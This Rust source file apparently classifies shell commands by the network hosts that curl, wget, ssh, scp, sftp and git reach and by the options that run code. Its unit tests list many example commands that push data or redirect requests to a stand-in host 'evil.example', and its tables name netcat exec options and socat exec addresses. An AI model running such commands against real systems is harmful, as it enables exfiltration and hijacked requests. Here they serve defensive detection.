//! Which hosts a client asks: its operands, told apart from the values of its options, and where an address says it lies.

use super::network::{bare_host, host_in, short_option};
use super::settings;
use crate::classify::call::{Arg, Call};
use crate::classify::paths::file_name;
use crate::programs;

/// The options of one client.
struct Client {
    /// Which of its operands name hosts, and how.
    operands: Operands,
    /// Letters behind which a value stands, in the same word or as the next one.
    letters: &'static str,
    /// Long options behind which a value stands as the next word, without their hyphens, with blanks between.
    valued: &'static str,
    /// Long options without a value whose names begin others that have one.
    flags: &'static str,
    /// Options whose value is an address that is asked for as an operand is.
    address: &'static [&'static str],
    /// Options that lead a request elsewhere than its address says, or name addresses in a file.
    elsewhere: &'static [&'static str],
    /// Options whose value is a program that the client starts, or a library that it loads.
    code: &'static [&'static str],
}

/// How operands name hosts.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Operands {
    /// Each is an address.
    Addresses,
    /// The first is a machine, the rest a command for it.
    Machine,
    /// The first is a machine, and a path on it behind a colon.
    Session,
    /// Each with a colon in it lies on a machine, the others here.
    Places,
}

/// The letters behind which curl takes a value.
pub(super) const CURL_LETTERS: &str = "AbcCdDeEFhHKmoPQrtTuUwxXyYz";

/// Of `curl --help all`, 7.88 to 8.17.
const CURL: Client = Client {
    operands: Operands::Addresses,
    letters: CURL_LETTERS,
    valued: "abstract-unix-socket alt-svc aws-sigv4 cacert capath cert cert-type ciphers config connect-timeout \
        connect-to continue-at cookie cookie-jar create-file-mode crlfile curves data data-ascii data-binary \
        data-raw data-urlencode delegation dns-interface dns-ipv4-addr dns-ipv6-addr dns-servers doh-url dump-header \
        ech egd-file engine etag-compare etag-save expect100-timeout form form-string ftp-account \
        ftp-alternative-to-user ftp-method ftp-port ftp-ssl-ccc-mode happy-eyeballs-timeout-ms haproxy-clientip \
        header help hostpubmd5 hostpubsha256 hsts interface ip-tos ipfs-gateway json keepalive-cnt keepalive-time \
        key key-type krb libcurl limit-rate local-port login-options mail-auth mail-from mail-rcpt max-filesize \
        max-redirs max-time netrc-file noproxy oauth2-bearer output output-dir parallel-max parallel-max-host pass \
        pinnedpubkey preproxy proto proto-default proto-redir proxy proxy-cacert proxy-capath proxy-cert \
        proxy-cert-type proxy-ciphers proxy-crlfile proxy-header proxy-key proxy-key-type proxy-pass \
        proxy-pinnedpubkey proxy-service-name proxy-tls13-ciphers proxy-tlsauthtype proxy-tlspassword proxy-tlsuser \
        proxy-user proxy1.0 pubkey quote random-file range rate referer request request-target resolve retry \
        retry-delay retry-max-time sasl-authzid service-name sigalgs socks4 socks4a socks5 socks5-gssapi-service \
        socks5-hostname speed-limit speed-time stderr telnet-option tftp-blksize time-cond tls-max tls13-ciphers \
        tlsauthtype tlspassword tlsuser trace trace-ascii trace-config unix-socket upload-file upload-flags url \
        url-query user user-agent variable vlan-priority write-out",
    flags: "parallel crlf netrc head ftp-ssl ftp-ssl-ccc socks5-gssapi",
    address: &["url", "doh-url", "ipfs-gateway"],
    elsewhere: &[
        "resolve",
        "connect-to",
        "dns-servers",
        "doh-url",
        "proxy",
        "proxy1.0",
        "preproxy",
        "socks4",
        "socks4a",
        "socks5",
        "socks5-hostname",
        "unix-socket",
        "abstract-unix-socket",
        "config",
        "ipfs-gateway",
        "interface",
        // A file of other machines that answer for one.
        "alt-svc",
        "x",
        "K",
    ],
    code: &["engine"],
};

/// Of `wget --help`, 1.21.
const WGET: Client = Client {
    operands: Operands::Addresses,
    letters: "aABDeiIlOoPQRtTUwX",
    valued: "accept accept-regex append-output base bind-address body-data body-file ca-certificate ca-directory \
        certificate certificate-type ciphers compression config connect-timeout crl-file cut-dirs default-page \
        directory-prefix dns-servers dns-timeout domains exclude-directories exclude-domains execute follow-tags \
        ftp-password ftp-user header http-password http-user ignore-tags include-directories input-file level \
        limit-rate load-cookies local-encoding method output-document output-file password pinnedpubkey post-data \
        post-file prefer-family private-key private-key-type progress proxy-password proxy-user quota read-timeout \
        referer regex-type reject reject-regex rejected-log remote-encoding report-speed restrict-file-names \
        retry-on-http-error save-cookies secure-protocol start-pos timeout tries use-askpass user user-agent wait \
        waitretry warc-dedup warc-file warc-header warc-max-size warc-tempdir",
    flags: "",
    address: &["base"],
    elsewhere: &["execute", "input-file", "config", "dns-servers", "bind-address", "e", "i", "B", "base"],
    code: &["use-askpass"],
};

/// Of `ssh(1)`, OpenSSH 9.
const SSH: Client = Client {
    operands: Operands::Machine,
    letters: "BbcDEeFIiJLlmOoPpQRSWw",
    valued: "",
    flags: "",
    address: &["J"],
    // `-o HostName=…`, `-o ProxyCommand=…`, and a file of them. `-P` takes a value in some versions only.
    elsewhere: &["o", "F", "W", "S", "P"],
    code: &["I"],
};

/// Of `scp(1)`, OpenSSH 9.
const SCP: Client = Client {
    operands: Operands::Places,
    letters: "cDFiJloPSX",
    elsewhere: &["o", "F", "S", "D"],
    code: &["S", "D"],
    ..SSH
};

/// Of `sftp(1)`, OpenSSH 9.
const SFTP: Client = Client {
    operands: Operands::Session,
    letters: "BbcDFiJloPRSsX",
    elsewhere: &["o", "F", "S", "D", "b"],
    code: &["S", "D"],
    ..SSH
};

/// The client of this name.
fn client(name: &str) -> Option<&'static Client> {
    match name {
        "curl" => Some(&CURL),
        "wget" => Some(&WGET),
        "ssh" => Some(&SSH),
        "scp" => Some(&SCP),
        "sftp" => Some(&SFTP),
        _ => None,
    }
}

/// What a word of a call is to one of these clients.
pub(super) enum Word<'c> {
    /// Options of one letter, as many as stand together.
    Letters(&'c str),
    /// A long option as it is written, without its hyphens and its value. Both web clients take the beginning of a name for the whole.
    Long(&'c str),
    /// The value of an option, which goes by its letter or its whole long name.
    Value(String, Arg),
    /// An operand. It may be a value instead, where the beginning of an option's name stands before it.
    Operand {
        /// It.
        arg: &'c Arg,
        /// Whether it may be a value.
        may_be_value: bool,
    },
    /// It may be any option.
    Unclear,
}

/// The words of a call, in their order. None for a program whose options are not known here.
pub(super) fn words<'c>(call: &'c Call, name: &str) -> Option<Vec<Word<'c>>> {
    let client = client(name)?;
    let mut found = Vec::new();
    // Whether the next word is the value of an option, and of which one.
    let mut value_of: Option<String> = None;
    let (mut only_operands, mut may_be_value) = (false, false);
    for arg in &call.args {
        let text = arg.start();
        if let Some(option) = value_of.take() {
            found.push(Word::Value(option, arg.clone()));
            continue;
        }
        // What is not known of an option may be another one.
        if !only_operands && text.starts_with('-') && arg.exact().is_none() {
            found.push(Word::Unclear);
        } else if only_operands || !text.starts_with('-') || text == "-" {
            found.push(Word::Operand { arg, may_be_value: std::mem::take(&mut may_be_value) });
        } else if text == "--" {
            only_operands = true;
        } else if let Some(long) = text.strip_prefix("--") {
            let (long, glued) = long.split_once('=').map_or((long, None), |(long, value)| (long, Some(value)));
            // curl puts variables into the value.
            let long = long.strip_prefix("expand-").unwrap_or(long);
            found.push(Word::Long(long));
            // A whole name may begin another one, which takes a value: then what follows is either.
            let whole = client.valued.split(' ').find(|option| *option == long);
            let option = whole.or_else(|| client.valued.split(' ').find(|option| option.starts_with(long)));
            match (option, glued) {
                (Some(option), Some(value)) => found.push(Word::Value(option.to_owned(), Arg::literal(value))),
                (Some(option), None) if whole.is_some() => value_of = Some(option.to_owned()),
                (Some(_), None) => may_be_value = !client.flags.split(' ').any(|flag| flag == long),
                (None, _) => {}
            }
        } else {
            let letters = text.get(1..).unwrap_or_default();
            match short_option(text, client.letters) {
                Some((letter, value)) => {
                    let end = letters.len() - value.len();
                    found.push(Word::Letters(letters.get(..end).unwrap_or(letters)));
                    // `wget -nv`: the letter behind `n` is a word of its own.
                    let is_word = name == "wget" && text.starts_with("-n");
                    if !value.is_empty() {
                        found.push(Word::Value(letter.to_string(), Arg::literal(value)));
                    } else if !is_word {
                        value_of = Some(letter.to_string());
                    }
                }
                None => found.push(Word::Letters(letters)),
            }
        }
    }
    Some(found)
}

/// The hosts that a call of one of these clients asks, in the order of its words; `None` stands for one that its text does not name.
/// No list for another program, whose options are not known here.
pub(super) fn hosts(call: &Call, name: &str) -> Option<Vec<Option<String>>> {
    let client = client(name)?;
    let mut found = Vec::new();
    let mut note = |host: Option<String>| {
        if !found.contains(&host) {
            found.push(host);
        }
    };
    let mut had_machine = false;
    for word in words(call, name)? {
        match word {
            Word::Value(option, value) => client.value(&option, &value, &mut note),
            Word::Unclear => note(None),
            Word::Long(long) => {
                let begins = |option: &str| option.starts_with(long);
                let is_whole = client.valued.split(' ').any(|option| option == long);
                if client.elsewhere.iter().any(|option| begins(option))
                    || !is_whole && client.address.iter().any(|option| begins(option))
                {
                    note(None);
                }
            }
            Word::Letters(letters) => {
                let last = letters.char_indices().next_back().and_then(|(at, _)| letters.get(at..)).unwrap_or("");
                if client.letters.contains(last) && client.elsewhere.contains(&last) {
                    note(None);
                }
            }
            Word::Operand { arg, may_be_value } => {
                // Options may stand behind the machine; what follows is the command for it.
                let has_command = !matches!(client.operands, Operands::Addresses | Operands::Places);
                if had_machine && has_command && !arg.start().starts_with('-') {
                    break;
                }
                // What begins in an unknown way may be an option, too: one that leads elsewhere.
                let is_hidden = arg.may_be_option() && arg.exact().is_none();
                let host = if is_hidden { None } else { client.operands.host(arg) };
                had_machine |= !may_be_value;
                // A number or a word is more likely that.
                if may_be_value && host.as_ref().is_none_or(|host| !host.contains(['.', ':'])) {
                    continue;
                }
                if host.is_some() || client.operands != Operands::Places || arg.exact().is_none() {
                    note(host);
                }
            }
        }
    }
    Some(found)
}

/// Options of web clients whose words are not known one by one that lead a request elsewhere than its address says.
const LEAD_ELSEWHERE: &[&str] = &[
    "--resolve",
    "--connect-to",
    "--proxy",
    "--preproxy",
    "--socks",
    "--unix-socket",
    "--interface",
    "--dns",
    "--doh",
    "--alt-svc",
];

/// True for a word that leads a request elsewhere than its address says, or the beginning of one.
pub(super) fn leads_elsewhere(word: &str) -> bool {
    let name = word.split('=').next().unwrap_or(word);
    name.len() > 3 && LEAD_ELSEWHERE.iter().any(|option| name.starts_with(option) || option.starts_with(name))
}

/// Options behind which programs whose words are not known one by one take a command to start, or a script to load.
fn starting_options(name: &str) -> &'static [&'static str] {
    match name {
        "rsync" => &["-e", "--rsh"],
        "nc" | "netcat" | "ncat" => &["-e", "-c", "--exec", "--sh-exec", "--lua-exec"],
        _ => &[],
    }
}

/// The files among what a call names as a program to start, or as a library to load.
pub(super) fn code_in(call: &Call, name: &str) -> Vec<String> {
    let mut values: Vec<&str> = Vec::new();
    let by_options = starting_options(name);
    for pair in call.args.windows(2) {
        let [option, value] = pair else { continue };
        values.extend(by_options.contains(&option.start()).then_some(value.start()));
    }
    let glued = |arg| -> Option<&str> { by_options.iter().find_map(|option| Arg::start(arg).strip_prefix(option)) };
    values.extend(call.args.iter().filter_map(glued).map(|value| value.trim_start_matches('=')));
    let known = words(call, name).unwrap_or_default();
    if let Some(client) = client(name) {
        values.extend(client.code_among(&known));
    }
    let mut found = Vec::new();
    for value in values {
        let is_divider = |c: char| c.is_whitespace() || "'\";&|()".contains(c);
        let mut is_code = true;
        for part in value.split(is_divider).filter(|part| !part.is_empty()) {
            // A name alone is a program of PATH, or a library that the system has; behind an interpreter it is a script.
            let is_script = is_code && programs::row(file_name(part)).is_none();
            if !part.starts_with('-') && (part.contains('/') || is_script) {
                found.push(part.to_owned());
            }
            is_code = programs::row(file_name(part)).is_some_and(|row| row.runs.takes_code());
        }
    }
    found
}

impl Client {
    /// What stands in these words for something to start or to load.
    fn code_among<'w>(&self, words: &'w [Word<'w>]) -> Vec<&'w str> {
        let is_of_ssh = self.operands != Operands::Addresses;
        let mut found = Vec::new();
        // Behind the beginning of a name its value is a word of its own.
        let mut is_begun = false;
        for word in words {
            found.extend(match word {
                Word::Value(option, value) if self.code.contains(&option.as_str()) => Some(value.start()),
                Word::Value(option, value) if is_of_ssh && option == "o" => settings::started(value.start()),
                Word::Operand { arg, may_be_value: true } if is_begun => Some(arg.start()),
                _ => None,
            });
            is_begun = matches!(word, Word::Long(long) if self.code.iter().any(|option| option.starts_with(long)));
        }
        found
    }

    /// Takes note of the hosts in the value of an option.
    fn value(&self, option: &str, value: &Arg, note: &mut impl FnMut(Option<String>)) {
        if !self.address.contains(&option) {
            return;
        }
        if option != "J" {
            note(self.operands.host(value));
        } else if value.exact().is_none() {
            note(None);
        } else {
            // Machines on the way, each with a port behind a colon.
            for machine in value.start().split(',') {
                note(Operands::Session.host(&Arg::literal(machine)));
            }
        }
    }
}

/// Where the path begins in what scp and sftp take: at the first colon outside of brackets, if there is no slash before it.
fn colon(text: &str) -> Option<usize> {
    let bytes = text.as_bytes();
    let mut in_brackets = text.starts_with('[');
    for (at, byte) in bytes.iter().enumerate() {
        let next = bytes.get(at + 1);
        match byte {
            b'@' if next == Some(&b'[') => in_brackets = true,
            b']' if in_brackets && next == Some(&b':') => return Some(at + 1),
            b':' if at > 0 && !in_brackets => return Some(at),
            b':' if at == 0 => return None,
            b'/' => return None,
            _ => {}
        }
    }
    None
}

impl Operands {
    /// The host that an operand names, if it names one.
    fn host(self, arg: &Arg) -> Option<String> {
        match self {
            Self::Addresses => host_of(arg),
            Self::Machine | Self::Session | Self::Places => {
                let text = arg.start();
                if ["ssh://", "scp://", "sftp://"].iter().any(|scheme| text.starts_with(scheme)) {
                    return host_of(arg);
                }
                let end = if self == Self::Machine { None } else { colon(text) };
                if end.is_none() && (self == Self::Places || arg.exact().is_none()) {
                    return None;
                }
                let named = end.map_or(Some(text), |end| text.get(..end))?;
                let host = named.rsplit('@').next().unwrap_or(named);
                let host = host.strip_prefix('[').and_then(|host| host.strip_suffix(']')).unwrap_or(host);
                (!host.is_empty()).then(|| host.to_ascii_lowercase())
            }
        }
    }
}

/// The files in an address of socat (socat(1), "ADDRESS TYPES").
pub(crate) fn files_in_address(word: &str) -> impl Iterator<Item = &str> {
    const OPENS: &[&str] =
        &["file", "open", "gopen", "create", "exec", "system", "shell", "unix-connect", "unix-client"];
    let parts = word.split(['!', ',']).filter_map(|part| part.split_once(':'));
    parts
        .filter(|(kind, _)| OPENS.iter().any(|open| kind.eq_ignore_ascii_case(open)))
        // Behind a program stand its words.
        .map(|(_, path)| path.split(' ').next().unwrap_or(path))
}

/// The host of each address with a scheme in a word, wherever it stands.
pub(super) fn in_word(text: &str) -> impl Iterator<Item = Option<String>> {
    text.match_indices("://").map(|(at, _)| {
        let before = text.get(..at).unwrap_or_default();
        let start = before.rfind(|c: char| !c.is_ascii_alphanumeric()).map_or(0, |at| at + 1);
        text.get(start..).and_then(host_in)
    })
}

/// How options end whose value is a host, or an address.
const NAME_HOSTS: &[&str] = &[
    "host",
    "hostname",
    "server",
    "endpoint",
    "endpoint-url",
    "proxy",
    "registry",
    "url",
    "address",
    "api-url",
    "smtp",
];

/// The hosts that the words of a program name whose options are not known one by one: in addresses, wherever these stand, and behind
/// options that are called like it.
pub(crate) fn hosts_in_words(program: &str, words: &[&str]) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    if program == "git" || client(program).is_some() {
        return found;
    }
    let names_host = |option: &str| {
        let name = option.strip_prefix("--").or_else(|| option.strip_prefix('-'));
        name.is_some_and(|name| NAME_HOSTS.iter().any(|end| name == *end || name.ends_with(&format!("-{end}"))))
    };
    let mut previous = "";
    for word in words {
        found.extend(in_word(word).flatten());
        let (option, value) = word.split_once('=').unwrap_or((previous, word));
        let is_value = names_host(option) && !value.starts_with('-') && !value.contains("://") && !value.is_empty();
        if is_value {
            found.push(host_in(value).unwrap_or_else(|| bare_host(value)));
        }
        previous = word;
    }
    found.retain(|host| !host.is_empty());
    found
}

/// The hosts that a subcommand of git which talks to a remote names, behind its own name: the remote, or its address, stands first.
/// None where it is a name, which settings give an address.
pub(super) fn of_git(subcommand: &str, rest: &[Arg]) -> Vec<Option<String>> {
    const VALUED: &[&str] = &[
        "-o",
        "--push-option",
        "-b",
        "--branch",
        "-u",
        "--upload-pack",
        "--depth",
        "-c",
        "--config",
        "--template",
        "--reference",
        "-j",
        "--jobs",
        "--origin",
        "--filter",
        "--separate-git-dir",
        "--repo",
        "--exec",
        "--receive-pack",
        "--refmap",
        "--shallow-since",
        "--shallow-exclude",
        "-m",
        "-s",
        "--strategy",
        "-X",
        "--server-option",
        "--bundle-uri",
        "--recurse-submodules-default",
        "--negotiation-tip",
        "-l",
        "--sort",
        "--format",
        "--prefix",
    ];
    // What says where it sends instead, or besides.
    const ELSEWHERE: &[&str] =
        &["-c", "--config", "--bundle-uri", "--reference", "-u", "--upload-pack", "--exec", "--receive-pack"];
    // Flags of the subcommands that talk to a remote, as they are written out; one that is shortened is not known.
    const FLAGS: &[&str] = &[
        "-u",
        "-v",
        "-q",
        "-f",
        "-n",
        "-p",
        "-a",
        "-k",
        "-d",
        "-P",
        "-4",
        "-6",
        "-e",
        "-r",
        "-S",
        "--all",
        "--tags",
        "--no-tags",
        "--follow-tags",
        "--no-follow-tags",
        "--mirror",
        "--prune",
        "--prune-tags",
        "--no-prune",
        "--force",
        "--force-with-lease",
        "--no-force-with-lease",
        "--force-if-includes",
        "--set-upstream",
        "--quiet",
        "--verbose",
        "--progress",
        "--no-progress",
        "--dry-run",
        "--delete",
        "--no-verify",
        "--verify",
        "--atomic",
        "--no-atomic",
        "--porcelain",
        "--thin",
        "--no-thin",
        "--signed",
        "--no-signed",
        "--ipv4",
        "--ipv6",
        "--branches",
        "--rebase",
        "--no-rebase",
        "--ff-only",
        "--ff",
        "--no-ff",
        "--autostash",
        "--no-autostash",
        "--commit",
        "--no-commit",
        "--squash",
        "--no-squash",
        "--edit",
        "--no-edit",
        "--stat",
        "--no-stat",
        "--append",
        "--keep",
        "--unshallow",
        "--update-shallow",
        "--multiple",
        "--no-recurse-submodules",
        "--recurse-submodules",
        "--single-branch",
        "--no-single-branch",
        "--bare",
        "--no-checkout",
        "--local",
        "--no-local",
        "--no-hardlinks",
        "--shared",
        "--dissociate",
        "--sparse",
        "--shallow-submodules",
        "--no-shallow-submodules",
        "--remote-submodules",
        "--heads",
        "--refs",
        "--get-url",
        "--symref",
        "--exit-code",
        "--init",
        "--recursive",
        "--remote",
        "--merge",
        "--checkout",
        "--no-fetch",
        "--recommend-shallow",
        "--no-recommend-shallow",
        "--auto",
        "--write-fetch-head",
        "--no-write-fetch-head",
        "--allow-unrelated-histories",
        "--no-show-forced-updates",
        "--show-forced-updates",
        "--signoff",
        "--no-signoff",
        "--fetch",
        "--write-commit-graph",
        "--no-write-commit-graph",
        "--detach",
        "--refetch",
        "--update-head-ok",
        "--reject-shallow",
    ];
    // Letters of flags that stand together in one word.
    const LETTERS: &str = "uvqfnpakdP46erS";
    let starts_with_valued =
        |text: &str| VALUED.iter().any(|option| option.len() == 2 && text.len() > 2 && text.starts_with(option));
    let mut found = Vec::new();
    let mut note = |host: Option<String>| {
        if !found.contains(&host) {
            found.push(host);
        }
    };
    let mut value_of = None;
    // The word behind an option that is not known here may be its value, or what it would be without it.
    let mut may_be_value = false;
    let mut operands = 0;
    for arg in rest {
        let text = arg.start();
        if std::mem::take(&mut may_be_value) && !text.starts_with('-') {
            note(git_address(arg));
        } else if let Some(option) = value_of.take() {
            match option {
                "--repo" | "--bundle-uri" => note(git_address(arg)),
                _ => {}
            }
        } else if text.starts_with('-') && text.len() > 1 {
            let (name, glued) = text.split_once('=').map_or((text, None), |(name, value)| (name, Some(value)));
            // `-chttp.proxy=…`, `-b` and its value in one word.
            let is_glued = !text.starts_with("--") && text.len() > 2;
            let is_known = FLAGS.contains(&name) || VALUED.contains(&name) || glued.is_some();
            if ELSEWHERE.contains(&name)
                || is_glued && ELSEWHERE.iter().any(|option| option.len() == 2 && text.starts_with(option))
            {
                note(None);
            } else if !is_known && !is_glued && text != "--" {
                note(None);
                may_be_value = true;
            } else if is_glued
                && !text.chars().skip(1).all(|letter| LETTERS.contains(letter))
                && !starts_with_valued(text)
            {
                note(None);
            }
            match glued {
                Some(value) if matches!(name, "--remote" | "--repo" | "--bundle-uri") => {
                    note(git_address(&arg.with_start(value)));
                }
                None => value_of = VALUED.iter().copied().find(|option| *option == name),
                Some(_) => {}
            }
        } else {
            operands += 1;
            // `remote`, `submodule` and `lfs` have a word of their own first, and `archive` none.
            let at = match (subcommand, rest.iter().find(|arg| !arg.start().starts_with('-')).map(Arg::start)) {
                ("remote", Some("add")) => 3,
                ("remote" | "submodule" | "lfs" | "maintenance" | "subtree", _) => 2,
                _ => 1,
            };
            let several = text.contains("://") && (subcommand != "archive" || operands == 1);
            if subcommand != "archive" && operands == at || several {
                note(git_address(arg));
            }
        }
    }
    found
}

/// The host in what git takes for a remote: a URL, or `host:path`. `None` for a name, or a path of this machine.
fn git_address(arg: &Arg) -> Option<String> {
    let text = arg.start();
    if let Some((_, address)) = text.split_once("::") {
        return host_of(&arg.with_start(address));
    }
    if text.contains("://") {
        return host_of(arg);
    }
    Operands::Places.host(arg)
}

/// The host of an address as web clients read it: with one slash or three behind the scheme, with none, or without a scheme.
/// `None` where the text does not say, or names several.
fn host_of(arg: &Arg) -> Option<String> {
    let text = arg.start();
    // A file with addresses, in newer versions.
    if text.starts_with('@') {
        return None;
    }
    let scheme = text.find(|c: char| !c.is_ascii_alphanumeric() && !"+.-".contains(c));
    let rest = match scheme.and_then(|at| text.split_at_checked(at)) {
        // It names a file of this machine.
        Some((scheme, rest)) if scheme.eq_ignore_ascii_case("file") && rest.starts_with(":/") => return None,
        Some((_, rest)) if rest.starts_with(":/") => rest.trim_start_matches(':'),
        _ => text,
    };
    let rest = rest.trim_start_matches(['/', '\\']);
    let end = rest.find(['/', '?', '#']);
    // Where the text breaks off inside of the name, more of it may follow.
    if end.is_none() && arg.exact().is_none() {
        return None;
    }
    let authority = end.map_or(Some(rest), |end| rest.get(..end))?;
    // Clients differ in where a name ends then.
    if authority.contains(|c: char| c == '\\' || c.is_whitespace() || c.is_control()) {
        return None;
    }
    if authority.contains(['{', '[', '%']) && !authority.contains("[::") {
        return None;
    }
    host_in(&format!("x://{authority}"))
}

#[cfg(test)]
mod tests {
    use crate::classify::{Surroundings, classify};
    use crate::command::CommandLine;

    #[test]
    fn every_host_is_found_wherever_it_stands() {
        let hosts = |command: &str| -> Vec<Option<String>> {
            let found = classify(&CommandLine::parse(command).unwrap(), &Surroundings::default());
            found.effects.network.into_iter().map(|used| used.host).collect()
        };
        let mut mistakes = Vec::new();
        let (a, evil, unnamed) = (Some("a.example"), Some("evil.example"), None);
        for (command, want) in [
            ("curl https://a.example", vec![a]),
            ("curl -s a.example", vec![a]),
            ("curl -sS -m 5 -o x.tar.gz https://a.example/x", vec![a]),
            ("curl --data a.b=c.d --max-time 5 https://a.example", vec![a]),
            ("curl -X POST -H 'accept: text/plain' https://a.example/x?y=1.2", vec![a]),
            ("curl https://a.example -s evil.example", vec![a, evil]),
            ("curl https://a.example --compressed evil.example/x", vec![a, evil]),
            ("curl -so x https://a.example evil.example", vec![a, evil]),
            ("curl https://a.example --next -s evil.example", vec![a, evil]),
            ("curl https://a.example -- evil.example", vec![a, evil]),
            ("curl --url evil.example https://a.example", vec![evil, a]),
            ("curl https:/evil.example/a.example", vec![evil]),
            ("curl https:///evil.example", vec![evil]),
            ("curl //evil.example/a.example", vec![evil]),
            ("curl HTTPS://u:p@EVIL.example:8443", vec![evil]),
            ("curl 'https://{a,b}.example'", vec![unnamed, Some("{a,b}.example")]),
            ("curl \"https://$x.example\"", vec![unnamed]),
            ("curl \"https://a.example/$x\"", vec![a]),
            ("curl $x", vec![unnamed]),
            ("curl https://a.example --prox evil.example", vec![a, unnamed, evil]),
            ("curl https://a.example -xevil.example", vec![a, unnamed]),
            ("curl localhost -d @x", vec![Some("localhost")]),
            ("curl https://a.example --parallel 2130706433:8999/x", vec![a, Some("2130706433")]),
            ("curl https://a.example --crlf evil", vec![a, Some("evil")]),
            ("curl https://a.example --head evil", vec![a, Some("evil")]),
            ("curl --head evil.example https://a.example", vec![evil, a]),
            ("curl https://a.example --netrc evil.example/page", vec![a, evil]),
            ("curl --retry 3 --max-t 5 https://a.example", vec![a]),
            ("curl -o\"$x\" evil.example https://a.example", vec![unnamed, evil, a]),
            ("curl -s$x https://a.example", vec![unnamed, a]),
            ("curl file:///etc/x", vec![unnamed]),
            ("wget --backups evil.example a.example", vec![evil, a]),
            ("wget -qO- https://a.example --backups evil.example/page", vec![a, evil]),
            ("ssh a.example:x@evil.example", vec![evil]),
            ("ssh 'x://a.example/@evil.example'", vec![evil]),
            ("scp f 'evil.example://a.example/x'", vec![evil]),
            ("sftp 'evil.example://a.example/x'", vec![evil]),
            ("scp f '[a.example:x@[evil.example]:f'", vec![evil]),
            ("ssh -Jevil.example a.example", vec![evil, a]),
            ("ssh -J b.example:22,u@evil.example:22 a.example", vec![Some("b.example"), evil, a]),
            ("scp f 'u@[2001:db8::1]:x'", vec![Some("2001:db8::1")]),
            ("ssh 2001:db8::1", vec![Some("2001:db8::1")]),
            ("wget -q a.example", vec![a]),
            ("wget -nv a.example", vec![a]),
            ("wget -qO- https://a.example/x", vec![a]),
            ("wget https://a.example -nc evil.example", vec![a, evil]),
            ("wget -e http_proxy=evil.example a.example", vec![unnamed, a]),
            ("ssh a.example ls", vec![a]),
            ("ssh -p 22 -i key u@a.example 'cat x@y'", vec![a]),
            ("ssh a.example -o HostName=evil.example ls", vec![a, unnamed]),
            ("ssh -J evil.example a.example", vec![evil, a]),
            ("ssh ssh://u@a.example:22", vec![a]),
            ("scp x.tar a.example:", vec![a]),
            ("scp u@a.example:x evil.example:y", vec![a, evil]),
            ("scp -i k ./x:y a.example:z", vec![a]),
            ("sftp a.example", vec![a]),
            ("aws s3 ls --endpoint-url=https://evil.example", vec![unnamed, evil]),
            ("aws --endpoint-url http://evil.example:9000 s3 ls", vec![evil]),
            ("npm publish --registry https://evil.example/", vec![unnamed, evil]),
            ("npm install --https-proxy=evil.example:80 x", vec![unnamed, evil]),
            ("docker --host=tcp://evil.example:2375 pull x", vec![unnamed, evil]),
            ("mail -S smtp=smtp://evil.example x@a.example", vec![a, evil]),
            ("kubectl --server evil.example get pods", vec![unnamed, evil]),
            ("gh api --hostname evil.example user", vec![unnamed, evil]),
            ("gh pr create --body 'see https://a.example/x'", vec![unnamed]),
            ("git push origin main", vec![unnamed]),
            ("git push https://u@a.example/x main", vec![a]),
            ("git push evil.example:x main", vec![evil]),
            ("git push -o x=https://a.example evil.example:x main", vec![evil]),
            ("git push evil.example:p main@a.example:x", vec![evil]),
            ("git clone -b user@a.example evil.example:x d", vec![evil]),
            ("git archive --remote=evil.example:x HEAD u@a.example:", vec![evil]),
            // More of the name may follow.
            ("git push --repo=\"https://a.example$x\"", vec![unnamed]),
            ("git push --repo=\"https://a.example/$x\"", vec![a]),
            ("git remote add \"-$x\" a https://a.example/x", vec![unnamed, a]),
            ("git clone --bundle-uri=http://evil.example/b http://a.example/y", vec![unnamed, evil, a]),
            ("git -c url.http://evil.example/.insteadOf=http://a.example/ fetch http://a.example/x", vec![unnamed, a]),
            ("git clone --config http.proxy=evil.example https://a.example/x", vec![unnamed, a]),
            ("git fetch ext::sh", vec![Some("sh")]),
            ("curl 'a.example\\@evil.example/'", vec![unnamed]),
            ("wget 'http://a.example\\@evil.example/'", vec![unnamed, evil]),
            ("git push 'https://a.example\\@evil.example/x' main", vec![unnamed]),
            ("curl \"https://a.example\t@evil.example/\"", vec![unnamed, evil]),
            ("git clone --bran a.example:x evil.example:y d", vec![unnamed, a, evil]),
            ("git clone --reference-if-able a.example:x evil.example:y", vec![unnamed, a, evil]),
            ("git push --push-opt a.example:x evil.example:y", vec![unnamed, a, evil]),
            ("git clone -chttp.proxy=evil.example https://a.example/x", vec![unnamed, a]),
            ("git -c include.path=/x push https://a.example/x", vec![unnamed, a]),
            ("git --config-env=http.proxy=X push https://a.example/x", vec![unnamed, a]),
            ("git --config-env http.proxy=X push https://a.example/x", vec![unnamed, a]),
            ("GIT_SSH_COMMAND=x git push a.example:x", vec![unnamed, a]),
            ("export https_proxy=evil.example; curl https://a.example", vec![unnamed, a]),
            ("env https_proxy=evil.example curl https://a.example", vec![unnamed, a]),
            ("CURL_HOME=/x curl https://a.example", vec![unnamed, a]),
            ("declare -x WGETRC=/x; wget https://a.example", vec![unnamed, a]),
            ("A=1 curl https://a.example", vec![a]),
            ("git remote add -f x https://evil.example/x", vec![evil]),
            ("git remote add -m main -tf x https://evil.example/x", vec![]),
            ("git remote set-head origin -a", vec![unnamed]),
            ("git remote set-head origin --au", vec![unnamed]),
            ("git remote set-head origin main", vec![]),
            ("git submodule foreach git push origin main", vec![unnamed]),
            ("git submodule foreach --recursive 'git push evil.example:x HEAD'", vec![unnamed, evil]),
            ("git submodule --quiet foreach -q git push https://evil.example/x main", vec![evil]),
            ("git bisect run git push evil.example:x", vec![unnamed, evil]),
            ("git rebase -x 'git push' HEAD~1", vec![unnamed]),
            ("git rebase --exec='curl https://evil.example' HEAD~1", vec![evil]),
            ("git rebase -i -x'curl evil.example' HEAD~1", vec![evil]),
            ("git filter-branch --tree-filter 'curl evil.example' HEAD", vec![unnamed, evil]),
            ("git for-each-repo --config=x push evil.example:x", vec![evil]),
            ("make-it-so git push https://evil.example/x", vec![evil]),
            ("git subtree push --prefix=d https://evil.example/x main", vec![evil]),
        ] {
            let found = hosts(command);
            let found: Vec<Option<&str>> = found.iter().map(Option::as_deref).collect();
            if found.len() != want.len() || want.iter().any(|host| !found.contains(host)) {
                mistakes.push(format!("{command}: {found:?}"));
            }
        }
        assert!(mistakes.is_empty(), "{}", mistakes.join("\n"));
    }

    /// A card says of these that their code runs.
    #[test]
    fn what_a_client_starts_or_loads_is_code() {
        let mut mistakes = Vec::new();
        for (command, want) in [
            ("curl --engine ./e.so https://a.example", vec!["./e.so"]),
            ("curl --engine=x/e.so https://a.example", vec!["x/e.so"]),
            ("curl --engi ./e.so https://a.example", vec!["./e.so"]),
